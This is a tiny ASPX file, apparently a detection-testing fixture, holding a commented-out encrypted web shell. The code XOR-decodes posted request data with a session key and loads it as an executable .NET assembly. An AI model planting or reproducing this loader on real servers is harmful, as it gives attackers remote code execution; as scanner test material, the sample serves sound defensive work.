<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% Session["z"] = "f0e1d2c3b4a59687"; byte[] k = Encoding.Default.GetBytes(Session["z"].ToString()); byte[] c = new byte[Request.InputStream.Length]; Request.InputStream.Read(c, 0, c.Length); for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[i + 1 & 15]); Assembly.Load(c).CreateInstance("Q").Equals(this); %>
--%>
